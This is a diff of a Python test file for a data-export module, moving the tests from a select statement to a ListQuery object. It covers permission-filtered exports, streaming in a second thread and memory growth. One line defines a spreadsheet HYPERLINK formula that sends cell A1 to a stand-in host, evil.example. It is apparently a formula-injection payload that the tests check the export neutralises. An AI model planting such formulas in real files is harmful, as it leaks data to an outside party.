@@ -26,7 +26,7 @@ from core.dataexchange import export_rows, export_stream, run_import
 from core.dataexchange.exporting import _cell
 from core.fields import FieldInfo
 from core.models import Region
-from core.records import Condition
+from core.lists import Condition, ListQuery
 from tests.core.org_fixtures import build_org
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
@@ -39,9 +39,10 @@ def org(kernel):
 
 def exported(kernel, actor, fmt: str, *, model=Customer, conditions=(), columns=None) -> bytes:
     records = kernel.records[model]
-    statement = records.select(conditions=conditions)
+    fields = tuple(records.all_fields[name] for name in columns) if columns else None
+    query = ListQuery(conditions=tuple(conditions), fields=fields)
     with acting_as(actor), kernel.session() as session:
-        return b"".join(export_rows(kernel, session, model, statement, fmt, columns))
+        return b"".join(export_rows(kernel, session, model, query, fmt))
 
 
 def csv_rows(data: bytes) -> list[list[str]]:
@@ -92,7 +93,7 @@ def test_a_rep_exports_only_what_she_may_see(kernel, org, caplog) -> None:
 def test_a_stream_pulled_later_in_another_thread_still_reads_as_the_user(kernel, org) -> None:
     """A web server pulls a streamed body after the handler's context is gone."""
     with acting_as(org.actor(kernel, "li.na")):
-        stream = export_stream(kernel, Customer, kernel.records[Customer].select(), "csv")
+        stream = export_stream(kernel, Customer, ListQuery(), "csv")
     pulled: list[bytes] = []
     worker = threading.Thread(target=lambda: pulled.extend(stream))
     worker.start()
@@ -201,10 +202,9 @@ class PeakRss(threading.Thread):
 
 def _export_growth(kernel, actor, fmt: str) -> tuple[int, int]:
     """Peak RSS growth (bytes) while streaming an export, and the file's size."""
-    records = kernel.records[Customer]
     size = 0
     with acting_as(actor), kernel.session() as session, PeakRss() as memory:
-        for block in export_rows(kernel, session, Customer, records.select(), fmt):
+        for block in export_rows(kernel, session, Customer, ListQuery(), fmt):
             size += len(block)
     return memory.growth, size
 
